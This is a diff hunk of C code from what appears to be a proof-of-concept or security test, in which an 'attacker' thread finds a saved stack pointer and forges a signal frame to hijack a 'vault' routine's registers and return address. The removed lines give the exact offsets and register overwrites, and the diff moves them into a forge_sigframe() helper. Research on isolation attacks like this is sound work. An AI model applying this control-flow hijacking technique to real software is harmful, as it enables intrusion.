@@ -74,21 +74,7 @@ static void *attacker(void *) {
   volatile uintptr_t *found = find_saved_sp();
   printf("saved stack pointer %s\n", found ? "found" : "not found");
   if (found && frame >= 0 && back && stub && armed) {
-    /* Below the saved stack pointer: the old slot, the top, then the
-     * callback's return address. The ucontext is above it (where a signal
-     * handler's return address to the stub would be). */
-    volatile uintptr_t *ra = found - 4;
-    volatile char *uc = (volatile char *)(ra + 1);
-    /* vault_step's return address is 64 bytes above the saved stack
-     * pointer (the call out's six registers, slot and cookie); vault_run's
-     * stack pointer is above it and vault_step's frame. */
-    uintptr_t sp = *found + 64 + 8 + frame + 8;
-#define REG(r) (*(volatile uintptr_t *)(uc + offsetof(ucontext_t, uc_mcontext.gregs[r])))
-    REG(REG_RIP) = back - 1;
-    REG(REG_RSP) = sp;
-    REG(REG_RBX) = key;
-    REG(REG_RBP) = (uintptr_t)request.words;
-    *ra = stub;
+    forge_sigframe(found, frame, back, key, stub);
   }
   if (write(ack[1], "k", 1) != 1)
     puts("no acknowledgement");
